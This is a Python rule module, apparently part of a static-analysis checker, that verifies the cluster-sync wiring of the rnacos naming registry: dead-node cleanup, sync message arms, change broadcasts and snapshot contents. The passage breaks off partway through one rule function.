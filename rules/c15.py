"""C15 Registry converges: after quiescence every node returns the same instances (thin, structural clauses only)."""
import re
from rn.facts import rv_operands
from rn import cfg, util
from rn.flow import Taint, field_place_src

NM = 'rnacos::naming::cluster::node_manage::InnerNodeManage::'
NA = 'rnacos::naming::core::NamingActor::'
DN = 'rnacos::naming::cluster::instance_delay_notify::ClusterInstanceDelayNotifyActor::'
NR = 'rnacos::naming::cluster::model::NamingRouteRequest'


def run(ck, fb):
    _run15(ck, fb)
    r15i(ck, fb)
    r15k(ck, fb)
    r15l(ck, fb)
    r15m(ck, fb)
    r15o(ck, fb)
    r15p(ck, fb)
    r15q(ck, fb)
    r15r(ck, fb)
    ck.borrow('rules.c12', {'R12q': 'R15n'}, 'a deregistration answered ok must reach the node that holds the instance, or the nodes return different instance sets until - and after - the next reconciliation')
    ck.borrow('rules.c14', {'R14g': 'R15j'}, 'a refused cluster message is a lost registry / view change: the nodes cannot converge on it')


def _run15(ck, fb):
    ck.explanation = (
        'THIN CLAIM: convergence is a liveness property over schedules and faults and is not decided. Decided are necessary wiring '
        'conditions: (a) when a node is marked Invalid, RemoveClientFromCluster is sent for every client of that node and its client set '
        'is cleared; (b) every NamingRouteRequest variant has an arm in handle_naming_route and each Sync* arm forwards to the naming '
        'actor / node manager (update, delete, batch, snapshot); received instances are stamped with the sender\'s cluster id; (c) local '
        'changes are announced: NamingActor::do_notify forwards New/UpdateValue/Remove to the delay-notify actor, whose periodic closure '
        'flushes updates and removals as one SyncBatchInstances and re-arms itself; from_sync updates are not re-announced.')
    ck.undecided = 'Does not decide convergence, anti-entropy completeness or behaviour under message loss.'
    ck.rule('R15a', 'dead node: in check_node_status the assignment status = Invalid is followed (same path) by client_invalid_instance, which '
                    'sends NamingCmd::RemoveClientFromCluster for every client id of the node and clears the set')
    cs = ck.body(NM + 'check_node_status', 'R15a')
    if cs:
        st = [(bb, s) for (o, f, bb, s) in cs.field_writes() if f == 'status']
        ci = cs.calls(re.escape(NM + 'client_invalid_instance') + '$')
        ck.require(len(st) == 1 and len(ci) == 1 and cfg.must_pass_before_return(cs, st[0][0], {ci[0].bb}) and ci[0].bb in cfg.reach_from(cs, [st[0][0]]), 'R15a',
                   'check_node_status:invalid->clients', cs.where(), 'a node is marked Invalid without invalidating the instances of its clients')
        if st:
            atoms = cfg.guard_atoms(cs, st[0][0])
            ok = any(a[0] == 'cmp' and a[1] in ('Lt', 'Le', 'Gt', 'Ge') for a in atoms) and any(a[0] == 'field' and a[1][-1:] == ['is_local'] and a[2] is False for a in atoms)
            ck.require(ok, 'R15a', 'check_node_status:only-silent-remote', cs.where(st[0][0]), 'the Invalid mark is not restricted to remote nodes whose last_active_time is older than the timeout')
    cl = ck.body(NM + 'client_invalid_instance', 'R15a')
    if cl:
        sd = util.sends(cl, r'NamingCmd$', 'RemoveClientFromCluster')
        ok = len(sd) == 1 and sd[0][0].bb in cfg.reach_from(cl, [cl.blocks[sd[0][0].bb]['t']['t']])
        ck.require(ok, 'R15a', 'client_invalid_instance:every-client', cl.where(), 'RemoveClientFromCluster is not sent for every client of the dead node')
        ck.require(len(util.mut_calls_on_field(cl, 'client_set', r'HashSet::<T, S, A>::clear$')) == 1, 'R15a', 'client_invalid_instance:clears', cl.where(), 'client set of the dead node is not cleared')
    ck.rule('R15b', 'every sync message kind is applied: handle_naming_route has an arm per NamingRouteRequest variant; Sync* / Snapshot arms '
                    'forward to NamingCmd::{Update,Delete,UpdateBatch,DeleteBatch,ReceiveSnapshot,UpdateServiceFromCluster}; received instances '
                    'get from_cluster stamped via reset_cluster_info / assignment')
    hr = [x for x in fb.find(r'^rnacos::naming::cluster::handle_naming_route$')]
    ck.require(len(hr) >= 1, 'R15b', 'handle_naming_route:exists', '-', 'handle_naming_route not found')
    if hr:
        m = fb.main(hr[0].name)
        ck.analysed(m)
        variants = fb.variants(NR)
        ck.floor('R15b', 'NamingRouteRequest variants', len(variants), 15)
        seen = set()
        for i in range(len(m.blocks)):
            pass
        # arms: blocks guarded by a variant atom on NamingRouteRequest
        for s in m.sites:
            for (a, v) in util.variant_guards(m, s.bb):
                if a == NR:
                    seen.add(v)
        for v in variants:
            ck.require(v in seen, 'R15b', 'arm:%s' % v, m.where(), 'NamingRouteRequest::%s has no arm that does anything' % v)
        expect = {'SyncUpdateInstance': ('Update', 'send'), 'SyncRemoveInstance': ('Delete', 'send'), 'SyncUpdateService': ('UpdateServiceFromCluster', 'do_send'),
                  'UpdateInstance': ('Update', 'send'), 'RemoveInstance': ('Delete', 'send')}
        sends = util.sends(m, r'naming::core::NamingCmd$')
        for arm, (cmdv, how) in expect.items():
            ok = any(v == cmdv and (NR, arm) in util.variant_guards(m, s.bb) for (s, mm, v, a) in sends)
            ck.require(ok, 'R15b', 'forward:%s->%s' % (arm, cmdv), m.where(), '%s is not applied as NamingCmd::%s' % (arm, cmdv))
        for arm, cmds in (('SyncBatchInstances', {'UpdateBatch', 'DeleteBatch'}), ('Snapshot', {'ReceiveSnapshot'})):
            got = set(v for (s, mm, v, a) in sends if (NR, arm) in util.variant_guards(m, s.bb))
            ck.require(cmds <= got, 'R15b', 'forward:%s' % arm, m.where(), '%s forwards only %s of %s' % (arm, sorted(got), sorted(cmds)))
        # cluster id stamping
        rs = m.calls(r'naming::cluster::reset_cluster_info$')
        arms = set()
        for s in rs:
            for (a, v) in util.variant_guards(m, s.bb):
                if a == NR:
                    arms.add(v)
        ck.require({'SyncUpdateInstance', 'SyncBatchInstances', 'Snapshot'} <= arms, 'R15b', 'stamps-from_cluster', m.where(), 'received instances are not stamped with the sender (reset_cluster_info in %s)' % sorted(arms))
    rc = [x for x in fb.find(r'^rnacos::naming::cluster::reset_cluster_info$')]
    for b in rc:
        ck.analysed(b)
        w = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'from_cluster']
        ck.require(len(w) == 1 and Taint(b, local_src=[1]).op_tainted(w[0][1]['rv'].get('op', {'c': {}})), 'R15b', 'reset_cluster_info:sets-sender', b.where(), 'from_cluster is not set to the sender id')
    ck.rule('R15c', 'local changes are announced: NamingActor::do_notify sends InstanceDelayNotifyRequest::{UpdateInstance,RemoveInstance} in its '
                    'New / UpdateValue / Remove arms; update_instance calls do_notify only when !from_sync (else notify_to_subscriber); the '
                    'delay-notify closure calls do_notify and re-arms; do_notify puts both lists into one SyncBatchInstances sent to other nodes')
    dn = ck.body(NA + 'do_notify', 'R15c')
    if dn:
        sd = util.sends(dn, r'InstanceDelayNotifyRequest$')
        UT = 'rnacos::naming::model::UpdateInstanceType'
        for arm, want in (('New', 'UpdateInstance'), ('UpdateValue', 'UpdateInstance'), ('Remove', 'RemoveInstance')):
            ok = any(v == want and util.variant_may_be(dn, s.bb, UT, arm) for (s, mm, v, a) in sd)
            ck.require(ok, 'R15c', 'do_notify:%s->%s' % (arm, want), dn.where(), 'a local %s is not announced to the other nodes' % arm)
            sub = [s for s in util.mut_calls_on_field(dn, 'subscriber', r'::notify$') if util.variant_may_be(dn, s.bb, UT, arm)]
            ck.require(len(sub) >= 1, 'R15c', 'do_notify:%s->subscribers' % arm, dn.where(), 'local subscribers are not notified of %s' % arm)
    nu = ck.body(NA + 'update_instance', 'R15c')
    if nu:
        d = nu.calls(re.escape(NA + 'do_notify') + '$')
        ns = nu.calls(re.escape(NA + 'notify_to_subscriber') + '$')
        ck.require(len(d) == 1 and len(ns) == 1, 'R15c', 'update_instance:notify-sites', nu.where(), 'update_instance lost its announce / subscriber-only split')
        from .c11 import cond_on
        if d and ns:
            ok1 = cond_on(nu, d[0].bb, lambda x, pol: x['k'] == 'arg' and nu.local_name(x['l']) == 'from_sync' and pol is False)
            ok2 = cond_on(nu, ns[0].bb, lambda x, pol: x['k'] == 'arg' and nu.local_name(x['l']) == 'from_sync' and pol is True)
            ck.require(ok1 and ok2, 'R15c', 'update_instance:announce-iff-local', nu.where(), 'announcement to the cluster is not tied to !from_sync')
    nr = ck.body(NA + 'remove_instance', 'R15c')
    if nr:
        ck.require(len(nr.calls(re.escape(NA + 'do_notify') + '$')) == 1, 'R15c', 'remove_instance:announces', nr.where(), 'a removal is not announced')
    hb = ck.body(DN + 'notify_heartbeat', 'R15c')
    if hb:
        ok = False
        for c in fb.tree(DN + 'notify_heartbeat')[1:]:
            ck.analysed(c)
            a = c.calls(re.escape(DN + 'do_notify') + '$')
            r = c.calls(re.escape(DN + 'notify_heartbeat') + '$')
            if a and r:
                rets = c.return_blocks()
                ok = all(not (set(rets) & cfg.reach_from(c, [0], blocked_blocks={x.bb})) for x in (a[0], r[0]))
        ck.require(ok, 'R15c', 'notify_heartbeat:flush+rearm', hb.where(), 'the batch flush driver does not flush and re-arm on every path')
    dd = ck.body(DN + 'do_notify', 'R15c')
    if dd:
        reg = util.region(fb, dd)
        ag = [x for b2 in reg for x in b2.aggregates(r'SyncBatchForSend$')]
        ck.require(len(ag) >= 1, 'R15c', 'delay.do_notify:batch', dd.where(), 'batch not built')
        sd = [x for b2 in reg for x in util.sends(b2, r'NodeManageRequest$', 'SendToOtherNodes')]
        ck.require(len(sd) >= 1, 'R15c', 'delay.do_notify:SendToOtherNodes', dd.where(), 'the batch is not sent to the other nodes')
        cl = util.mut_calls_on_field(dd, 'instances_map', r'HashMap::<K, V, S, A>::clear$', deep=1)
        ck.require(len(cl) >= 1, 'R15c', 'delay.do_notify:clears', dd.where(), 'pending changes are not cleared after the flush (re-sent forever) or cleared elsewhere')
        pushes = dd.calls(r'Vec::<T, A>::push$')
        ck.require(len(pushes) == 2, 'R15c', 'delay.do_notify:both-lists', dd.where(), 'updates and removals are not both collected')
    dly = ck.body(DN + 'delay_notify', 'R15c')
    if dly:
        # the LAST change queued for a key before the flush decides whether the peers get an update or a removal: on every path the entry of the
        # key ends up with THIS call's is_update (a fresh NotifyItem stored through insert / the entry API, or an assignment of the field)
        pl = [l for l in range(1, dly.argc + 1) if dly.local_name(l) == 'is_update']
        tp = Taint(dly, local_src=pl)
        sinks = set()
        for s0 in dly.calls(r'HashMap::<K, V, S, A>::insert$|Entry::<.*>::(insert|insert_entry|or_insert)|VacantEntry::<.*>::insert|OccupiedEntry::<.*>::insert|Entry<.*>::or_insert'):
            for a in s0.args[1:]:
                ag = util.agg_of(dly, a)
                if ag is not None and ag['adt'].endswith('NotifyItem') and 'is_update' in ag['fields'] and tp.op_tainted(ag['ops'][ag['fields'].index('is_update')]):
                    sinks.add(s0.bb)
        for (o, f, bb, st) in dly.field_writes():
            if f == 'is_update' and any(tp.op_tainted(y) for y in rv_operands(st['rv'])):
                sinks.add(bb)
        ck.require(bool(pl) and bool(sinks) and cfg.must_pass_before_return(dly, 0, sinks), 'R15c', 'delay_notify:records', dly.where(),
                   'a change can pass through delay_notify without its kind (update / removal) being recorded for the key: register + deregister of one '
                   'instance inside one 500 ms tick is flushed as an update, the peers keep the instance for ever (HTTP copies have no time-out)',
                   'the kind of the last change is stored on every path')
    h = fb.impls(r'^actix::Handler$', r'ClusterInstanceDelayNotifyActor$', r'InstanceDelayNotifyRequest$', 'handle')
    for b in h:
        ck.analysed(b)
        cs2 = b.calls(re.escape(DN + 'delay_notify') + '$')
        vals = set()
        from rn.facts import op_const
        for s in cs2:
            c = op_const(s.args[2])
            arm = [v for (a, v) in util.variant_guards(b, s.bb) if a and a.endswith('InstanceDelayNotifyRequest')]
            vals.add((arm[0] if arm else None, c.get('v') if c else None))
        ck.require(vals == {('UpdateInstance', True), ('RemoveInstance', False)}, 'R15c', 'delay.handle:is_update-flags', b.where(), 'update/remove flags of the batch are %s' % sorted(vals, key=str))
    r15d(ck, fb)
    r15e(ck, fb)
    r15f(ck, fb)
    r15g(ck, fb)
    r15h(ck, fb)


def _closure_calls_all(fb, fn, names):
    """some closure of fn calls every function in names on every path and re-arms fn"""
    for c in fb.tree(fn)[1:]:
        sites = [c.calls(re.escape(n) + '$') for n in names]
        if all(sites):
            rets = c.return_blocks()
            if all(not (set(rets) & cfg.reach_from(c, [0], blocked_blocks={s[0].bb})) for s in sites):
                return c
    return None


def r15d(ck, fb):
    ck.rule('R15d', 'anti-entropy drivers: InnerNodeManage::hb re-arms itself and on every tick calls check_node_status, ping_other and '
                    'send_distort_data; started() calls hb; first_query_snapshot schedules load_snapshot_from_node three times and '
                    'notify_snapshot_to_node once; active_node marks a pinging node Valid; send_distort_data sends SyncDistroClientInstances to '
                    'every non-local node; a node that becomes active again has its status restored')
    hb = ck.body(NM + 'hb', 'R15d')
    if hb:
        c = _closure_calls_all(fb, NM + 'hb', [NM + 'check_node_status', NM + 'ping_other', NM + 'send_distort_data', NM + 'hb'])
        ck.require(c is not None and len(hb.calls(r'AsyncContext::run_later$')) == 1, 'R15d', 'hb:tick', hb.where(),
                   'the node-manager tick does not (check status, ping, send distro data, re-arm) on every path')
    st = fb.impls(r'^actix::Actor$', r'node_manage::InnerNodeManage$', None, 'started')
    ck.require(len(st) == 1 and len(st[0].calls(re.escape(NM + 'hb') + '$')) == 1, 'R15d', 'started->hb', st[0].where() if st else '-', 'InnerNodeManage::started does not start the tick')
    fq = ck.body(NM + 'first_query_snapshot', 'R15d')
    if fq:
        cl = fb.tree(NM + 'first_query_snapshot')[1:]
        n_load = sum(1 for c in cl if c.calls(re.escape(NM + 'load_snapshot_from_node') + '$'))
        n_not = sum(1 for c in cl if c.calls(re.escape(NM + 'notify_snapshot_to_node') + '$'))
        ck.require(n_load >= 2 and n_not >= 1, 'R15d', 'first_query_snapshot:schedules', fq.where(),
                   'a (re)joining node schedules %d snapshot loads and %d snapshot notifications (pinned: 3 and 1)' % (n_load, n_not))
    an = ck.body(NM + 'active_node', 'R15d')
    if an:
        w = util.assigned_fields(an)
        ck.require({'status', 'last_active_time'} <= w, 'R15d', 'active_node:revives', an.where(), 'a pinging node is not marked Valid / its activity time is not refreshed')
    ls = ck.body(NM + 'load_snapshot_from_node', 'R15d')
    if ls:
        sd = [x for x in ls.sites if x.callee and util.SEND_RX.match(x.callee)]
        ok = len(sd) == 1 and sd[0].bb in cfg.reach_from(ls, [ls.blocks[sd[0].bb]['t']['t']]) and bool(ls.aggregates(r'NamingRouteRequest$', 'QuerySnapshot'))
        ck.require(ok, 'R15d', 'load_snapshot_from_node:asks-every-node', ls.where(), 'the snapshot query is not sent to every valid remote node')
    sdd = fb.tree(NM + 'send_distort_data') if fb.has(NM + 'send_distort_data') else []
    if sdd:
        ok = any(bool(c.aggregates(r'NamingRouteRequest$', 'SyncDistroClientInstances')) for c in sdd)
        ck.require(ok, 'R15d', 'send_distort_data:sends', sdd[0].where(), 'distro client data is not sent')
    so = ck.body(NM + 'send_to_other_node', 'R15d')
    if so:
        sd = [x for x in so.sites if x.callee and util.SEND_RX.match(x.callee)]
        ok = len(sd) == 1 and sd[0].bb in cfg.reach_from(so, [so.blocks[sd[0].bb]['t']['t']])
        ck.require(ok, 'R15d', 'send_to_other_node:loop', so.where(), 'send_to_other_node does not send to every node')


def r15e(ck, fb):
    ck.rule('R15e', 'remote-client bookkeeping <-> registry: every InnerNodeManage method that drops ids from a node\'s client_set tells the naming '
                    'actor (NamingCmd::RemoveClient[s]FromCluster) on every path from the removal to return; the announcement is conditional only on '
                    'naming_actor being set (or on emptiness of the list it sends), and the batch form carries the removed ids (the set difference)')
    methods = [b for b in fb.find('^' + re.escape(NM)) if not b.parent]
    n = 0
    for b in methods:
        rms = util.mut_calls_on_field(b, 'client_set', r'HashSet::<T, S, A>::(remove|clear|retain|drain|take)$')
        if not rms:
            continue
        if b.name.endswith('client_invalid_instance'):
            continue   # R15a (one message per client inside the loop, then clear)
        n += 1
        ck.analysed(b)
        key = b.name.split('::')[-1]
        sd = util.sends(b, r'NamingCmd$')
        sd = [x for x in sd if x[2] in ('RemoveClientFromCluster', 'RemoveClientsFromCluster')]
        if not ck.require(len(sd) >= 1, 'R15e', key + ':announces', b.where(), '%s drops client ids of a remote node but never tells the naming actor: their '
                          'instances stay registered here for ever' % key):
            continue
        via = {x[0].bb for x in sd}
        # blocks where naming_actor is tested: the None side legitimately has nobody to tell
        for (s_, d_, lab_, t_) in cfg.switch_edges(b):
            dd = cfg.describe_operand(b, t_['discr'])
            if dd['k'] == 'discr':
                txt = cfg.fmt_desc(cfg.describe_operand(b, {'cp': dd['pl']}))
                if 'naming_actor' in txt or 'naming_actor' in str(cfg.origin_fields(b, {'cp': dd['pl']})):
                    via.add(s_)
        okp = all(cfg.must_pass_before_return(b, r.bb, via) for r in rms)
        ck.require(okp, 'R15e', key + ':every-path', b.where(),
                   '%s can drop client ids from client_set and return without telling the naming actor (early return / skipped branch): the ids are '
                   'forgotten here, so not even the death of that node cleans their instances up later' % key, 'removal -> announcement on every path')
        for (s, m, v, a) in sd:
            extra = []
            for at in cfg.guard_atoms(b, s.bb):
                if at[0] == 'variant' and at[2] == 'Some':
                    continue
                if at[0] in ('variant', 'notvariant', 'variantin') and 'Iterator>::next' in cfg.fmt_desc(at[3]):
                    continue   # exit edge of a loop that precedes the announcement
                if at[0] == 'call' and (at[1] or '').endswith('is_empty'):
                    # tolerated only on the list that is being sent
                    recv = cfg.describe_operand(b, at[3]['args'][0]) if at[3].get('args') else None
                    payload = [cfg.describe_operand(b, o) for o in a['ops']]
                    if recv is not None and any(cfg.fmt_desc(recv) == cfg.fmt_desc(pl) or _same_local(b, at[3]['args'][0], o) for pl, o in zip(payload, a['ops'])):
                        continue
                if at[0] == 'other':
                    continue
                extra.append(cfg.fmt_atom(at))
            ck.require(not extra, 'R15e', key + ':unconditional:' + v, s.where(),
                       'the announcement %s is conditional on %s' % (v, extra), 'conditional only on naming_actor')
            if v == 'RemoveClientsFromCluster':
                t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('::difference'))
                ck.require(any(t.op_tainted(o) for o in a['ops']), 'R15e', key + ':payload<-difference', s.where(),
                           'the ids announced as gone are not the set difference (known ids minus reported ids)')
    ck.floor('R15e', 'client_set removers outside client_invalid_instance', n, 2)
    # dropping a whole node record drops its client_set too: the node's clients must be invalidated on the same path
    for b in methods:
        drops = util.mut_calls_on_field(b, 'all_nodes', r'BTreeMap::<K, V, A>::(remove|clear|retain)$')
        if not drops:
            continue
        ck.analysed(b)
        key = b.name.split('::')[-1]
        inv = b.calls(re.escape(NM + 'client_invalid_instance') + '$') + \
            [x[0] for x in util.sends(b, r'NamingCmd$') if x[2] in ('RemoveClientFromCluster', 'RemoveClientsFromCluster')]
        ok = bool(inv) and all(any(i.bb in cfg.reach_from(b, [d.bb]) for i in inv) for d in drops)
        ck.require(ok, 'R15e', key + ':node-removal-invalidates-clients', drops[0].where(),
                   '%s removes a node record (and with it the list of that node\'s gRPC client ids) without invalidating those clients: the instances '
                   'they registered stay on this node for ever - a node that leaves the membership takes its connections with it, and nothing else '
                   'will ever time them out' % key, 'client_invalid_instance after the removal')


def _same_local(b, op1, op2):
    from rn.facts import op_place, pl_local
    def root(op, d=0):
        p = op_place(op)
        if p is None:
            return None
        l = pl_local(p)
        ds = b.defs.get(l, [])
        if d < 6 and len(ds) == 1 and ds[0][0] == 'stmt' and ds[0][3]['rv']['k'] in ('ref', 'use'):
            rv = ds[0][3]['rv']
            inner = {'cp': rv['pl']} if rv['k'] == 'ref' else rv['op']
            r = root(inner, d + 1)
            return r if r is not None else l
        return l
    a, c = root(op1), root(op2)
    return a is not None and a == c


def r15f(ck, fb):
    ck.rule('R15f', 'a node vouches only for what it owns: in NamingActor::build_snapshot_data (answer to QuerySnapshot / snapshot push) instances '
                    'taken from the client index are pushed only under !Instance::is_from_cluster(); the per-service part comes from '
                    'Service::get_owner_http_instances under ProcessRange::is_range_at_list. Instances learned from a third node are never relayed: '
                    'the receiver tracks client ids per sending node and could never clean them up')
    b = ck.body('rnacos::naming::core::NamingActor::build_snapshot_data', 'R15f')
    if not b:
        return
    pushes = b.calls(r'Vec::<.*>::push$')
    n = 0
    for s in pushes:
        t = Taint(b, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('NamingActor::get_instance'))
        if len(s.args) < 2 or not t.op_tainted(s.args[1]):
            continue
        n += 1
        ok = any(a[0] == 'call' and (a[1] or '').endswith('Instance::is_from_cluster') and a[2] is False for a in cfg.guard_atoms(b, s.bb))
        ck.require(ok, 'R15f', 'build_snapshot_data:own-clients-only', s.where(),
                   'an instance from the client index goes into the snapshot without the test !is_from_cluster(): copies learned from other nodes are '
                   'relayed under their original origin; the receiver does not track their client ids for the relaying node and no clean-up path '
                   '(node death, RemoveDiffClientIds, distro diff) ever removes them')
    ck.floor('R15f', 'client-index pushes in build_snapshot_data', n, 1)
    ap = b.calls(r'Vec::<.*>::append$')
    own = b.calls(r'Service::get_owner_http_instances$')
    ck.require(len(own) >= 1 and len(ap) >= 1, 'R15f', 'build_snapshot_data:owner-http-part', b.where(), 'the per-service part no longer comes from get_owner_http_instances')
    for s in own:
        ok = any(a[0] == 'call' and (a[1] or '').endswith('ProcessRange::is_range_at_list') and a[2] is True for a in cfg.guard_atoms(b, s.bb))
        if not ok:
            # iterator form: the loop runs over `.filter(|..| is_range_at_list(..))`
            flt = [c for c in fb.tree(b.name)[1:] if c.calls(r'ProcessRange::is_range_at_list$')]
            nx = [x for x in b.calls(r'Iterator>::next$') if cfg.dominates_blocks(b, {x.bb}, s.bb) and 'Filter<' in ' '.join(x.gargs or []) + (x.full or '')]
            ok = bool(flt) and bool(nx)
        ck.require(ok, 'R15f', 'build_snapshot_data:range-filter', s.where(), 'services outside the requested ranges are put into the snapshot')


def r15g(ck, fb):
    ck.rule('R15g', 'producer/consumer agreement on the route: NamingRoute::{update_instance,delete_instance} hand the number carried by '
                    'NamingRouteAddr::Remote to do_route_instance as the owner\'s cluster id (stamped into instance.from_cluster of the local copy, '
                    'given to AddClientId); NodeManage::route_addr must therefore put the selected node\'s `id` there, not its position in the list '
                    'of valid nodes (position 0 reads as "registered on this node")')
    ra = ck.main(NM.replace('InnerNodeManage::', '') + 'NodeManage::route_addr', 'R15g') if False else None
    names = [n for n in fb.bodies if re.search(r'node_manage::NodeManage::route_addr', n)]
    if not names:
        ck.bad('R15g', 'anchor:route_addr', '-', 'NodeManage::route_addr not found')
        return
    n = 0
    for nm in names:
        b = fb.bodies[nm]
        for (i, j, st) in b.aggregates(r'cluster::model::NamingRouteAddr$', 'Remote'):
            n += 1
            ck.analysed(b)
            op = st['rv']['ops'][0]
            of = cfg.origin_fields(b, op)
            ck.require(of[-1:] == ['id'], 'R15g', 'route_addr:Remote-carries-node-id', b.where(i),
                       'NamingRouteAddr::Remote carries %s, not the id of the selected node: the routing side stamps instance.from_cluster with it and '
                       'registers the client under it, so the copy of an instance owned by the first valid node is marked as registered here '
                       '(from_cluster = 0) and other owners get a wrong, off-by-one origin until their next batch sync' % (cfg.fmt_desc(cfg.describe_operand(b, op))[:50]),
                       'node.id')
    ck.floor('R15g', 'Remote route results', n, 1)
    # consumer side: the value is used as a cluster id
    RT = 'rnacos::naming::cluster::route::NamingRoute::'
    d = fb.main(RT + 'do_route_instance') if fb.has(RT + 'do_route_instance') else None
    if d is None:
        ck.body(RT + 'do_route_instance', 'R15g')
    else:
        ck.analysed(d)
        w = [(bb, st) for (o, f, bb, st) in d.field_writes() if f == 'from_cluster']
        ck.require(len(w) >= 1, 'R15g', 'do_route_instance:stamps-origin', d.where(), 'the local copy of a routed instance is not stamped with the owner\'s cluster id')


def r15h(ck, fb):
    ck.rule('R15h', 'the sender\'s client ids are registered from the STAMPED origin: in handle_naming_route every test of instance.from_cluster '
                    'against the sender\'s cluster id (which decides AddClientId / AddClientIds) is dominated by reset_cluster_info for that arm / loop '
                    'iteration. Instances of the sender arrive with from_cluster == 0; tested before the stamp, none of its gRPC clients is tracked, '
                    'and their instances stay when that node dies')
    hr = [x for x in fb.find(r'^rnacos::naming::cluster::handle_naming_route$')]
    if not hr:
        ck.bad('R15h', 'anchor:handle_naming_route', '-', 'handle_naming_route not found')
        return
    m = fb.main(hr[0].name)
    ck.analysed(m)
    resets = m.calls(r'cluster::reset_cluster_info$')
    n = 0
    for (i, j, st) in m.stmts():
        rv = st.get('rv')
        if not rv or rv['k'] != 'bin' or rv['op'] not in ('Eq', 'Ne'):
            continue
        fa, fb_ = cfg.origin_fields(m, rv['a']), cfg.origin_fields(m, rv['b'])
        if fa[-1:] != ['from_cluster'] and fb_[-1:] != ['from_cluster']:
            continue
        n += 1
        ok = any(cfg.dominates_blocks(m, {r.bb}, i) and i in cfg.reach_from(m, [r.bb]) for r in resets)
        # a loop: the stamp must be the one of this iteration, i.e. no path from the loop head to the test avoids it
        ck.require(ok, 'R15h', 'handle_naming_route:origin-test-after-stamp', m.where(i),
                   'from_cluster is compared with the sender\'s id before reset_cluster_info stamped it: the sender\'s own instances still carry 0 there, '
                   'so none of its client ids is registered for that node (AddClientIds) and nothing removes their instances when the node dies')
    ck.floor('R15h', 'origin tests in handle_naming_route', n, 3)


def r15i(ck, fb, R='R15i'):
    ck.rule(R, 'a node that comes back gets its instances back: NamingActor::receive_snapshot may leave out an instance of a peer snapshot only after '
               'looking at its own registry (it already holds its own, newer copy). Dropping every instance whose origin is this node leaves a '
               'restarted owner with an empty list for instances whose clients died meanwhile, while the peers keep serving them - for good, '
               'since mirrors have no time-out')
    NA = 'rnacos::naming::core::NamingActor::'
    b = ck.body(NA + 'receive_snapshot', R)
    if not b:
        return
    ups = b.calls(re.escape(NA + 'update_instance') + '$')
    heads = [x for x in b.calls(r'Iterator>::next$')]
    look = {x.bb for x in b.calls(r'NamingActor::get_instance$|Service::get_instance$|HashMap::<K, V, S, A>::(get|contains_key)$')}
    ck.floor(R, 'update_instance sites in receive_snapshot', len(ups), 1)
    for s0 in ups:
        for h in heads:
            if s0.bb not in cfg.reach_from(b, [h.bb]) or h.bb not in cfg.reach_from(b, [s0.bb]):
                continue
            start = b.blocks[h.bb]['t'].get('t')
            if start is None:
                continue
            skip = h.bb in cfg.reach_from(b, [start], blocked_blocks={s0.bb})
            blind = h.bb in cfg.reach_from(b, [start], blocked_blocks={s0.bb} | look)
            ck.require(not blind, R, 'receive_snapshot:skip-only-after-lookup', s0.where(),
                       'an instance of a peer snapshot can be left out without a look at the local registry: a node that restarted never gets back the '
                       'instances it owned (their clients may be gone, so no beat re-creates them) while the peers keep them',
                       'skipped only after a lookup' if skip else 'never skipped')


def r15k(ck, fb, R='R15k'):
    ck.rule(R, 'a change of an instance\'s value on this node is told to the other nodes whatever the origin of the instance: in NamingActor::do_notify, '
               'for the tags New and UpdateValue, with a delay-notify actor and an instance at hand, every path sends InstanceDelayNotifyRequest::UpdateInstance '
               '(walk under tag x Some x Some, every other condition free - a test of from_cluster / from_grpc on that way is a way around the send). Only a '
               'removal (Remove, told by the node that manages the instance) and a heartbeat (UpdateTime, not for gRPC instances) may depend on the origin; '
               'both must stay possible. A console update of a gRPC instance that is applied on another node than the one holding the connection otherwise '
               'never reaches the remaining nodes: they return the old weight / enabled state for ever')
    b = ck.body(NA + 'do_notify', R)
    if not b:
        return
    names = {b.local_name(l): l for l in range(1, b.argc + 1)}
    if 'tag' not in names or 'instance' not in names:
        ck.bad(R, 'do_notify:parameters', b.where(), 'do_notify no longer takes tag / instance: the rule does not know this function')
        return

    def classify(d, term):
        if d['k'] != 'discr':
            return None
        o = cfg.resolve_place(b, d['pl']) if not isinstance(d['pl'], int) else cfg.trace_local(b, d['pl'])
        if o['k'] == 'arg' and o['l'] == names['tag']:
            return ('variant', 'tag')
        if o['k'] == 'arg' and o['l'] == names['instance']:
            return ('variant', 'inst')
        if o['k'] == 'place' and o['fields'][-1:] == ['cluster_delay_notify']:
            return ('variant', 'addr')
        return None
    from rn import walk
    MSG = r'InstanceDelayNotifyRequest$'
    upd = {s0.bb for (s0, m, v, a) in util.sends(b, MSG, 'UpdateInstance')}
    rem = {s0.bb for (s0, m, v, a) in util.sends(b, MSG, 'RemoveInstance')}
    beat = {s0.bb for (s0, m, v, a) in util.sends(b, MSG, 'UpdateInstanceBeat')}
    ck.floor(R, 'delay-notify sends in do_notify', len(upd) + len(rem) + len(beat), 3)
    for tag in ('New', 'UpdateValue'):
        env = {'tag': tag, 'inst': 'Some', 'addr': 'Some'}
        r = walk.walker(b, classify, env)
        esc = walk.escapes_under(b, classify, env, upd)
        ck.require(bool(upd & r) and not esc, R, 'do_notify:%s:always-broadcast' % tag, b.where(esc[0]) if esc else b.where(),
                   'for tag %s, with a delay-notify actor and an instance, do_notify can return without sending UpdateInstance (reachable %s; the ways around '
                   'the send end at blocks %s): a value change this node applied stays local' % (tag, bool(upd & r), esc), 'UpdateInstance on every path')
    for (tag, sites, what) in (('Remove', rem, 'RemoveInstance'), ('UpdateTime', beat, 'UpdateInstanceBeat')):
        r = walk.walker(b, classify, {'tag': tag, 'inst': 'Some', 'addr': 'Some'})
        ck.require(bool(sites & r), R, 'do_notify:%s:can-send' % tag, b.where(), 'for tag %s no %s can be sent any more' % (tag, what))


def r15l(ck, fb, R='R15l'):
    ck.rule(R, '"a node that (re)joins receives the others\' data": snapshots and distro answers carry the instances a node holds itself '
               '(from_cluster == 0), so a node must never store one of its own instances as a mirror of itself. An instance that comes back from a peer '
               'with from_cluster == this node\'s id (a console update of a gRPC instance applied on the owner of the service and broadcast from '
               'there) keeps its holder: NamingActor::update_instance compares the incoming from_cluster with self.node_id and, on the equal edge, '
               'stores origin 0. Otherwise the holder marks its own gRPC instance as foreign, every node treats it as somebody else\'s, and no '
               'snapshot or distro answer contains it any more')
    b = ck.body(NA + 'update_instance', R)
    if not b:
        return
    zero = []
    for x in util.region(fb, b, 1):
        for (o, f, bb, st) in x.field_writes():
            if f != 'from_cluster' or not o.endswith('naming::model::Instance'):
                continue
            rv = st['rv']
            from rn.facts import op_const
            c = op_const(rv['op']) if rv['k'] == 'use' else None
